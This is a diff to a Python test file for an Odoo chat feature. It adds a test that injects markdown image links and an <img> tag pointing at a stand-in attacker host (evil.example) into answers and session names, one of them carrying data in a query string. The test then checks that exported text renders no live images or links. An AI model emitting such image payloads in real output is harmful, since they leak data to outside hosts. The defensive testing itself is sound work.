@@ -1,6 +1,8 @@
 import json
 from unittest.mock import patch
 
+import markdown
+
 from odoo.exceptions import AccessError
 from odoo.tests import tagged
 from odoo.tools import mute_logger
@@ -168,6 +170,17 @@ class TestChatGrounding(GroundingCase):
         told = self.client(answer)["copy_text"]
         self.assertIn("n\\*i\\*ts", told)
         self.assertNotIn("|n*i", told)
+
+    def test_a_copy_loads_nothing_from_elsewhere(self):
+        self.QUANTITIES = {"![x](https://evil.example/n.png)": 40.0}
+        answer = self.answered(
+            "![x](https://evil.example/p.png?d=40) <img src='//evil.example/q'> [1]"
+        ).with_user(self.planner)
+        answer.session_id.name = "![x](https://evil.example/s.png)"
+        for told in (self.client(answer)["copy_text"], answer._export_markdown()):
+            html = markdown.markdown(told)
+            self.assertIn("evil.example/p.png", html)
+            self.assertNotRegex(html, "<(?:img|a)")
 
     def test_a_forged_verdict_is_refused(self):
         answer = self.answered(self.FALSE)
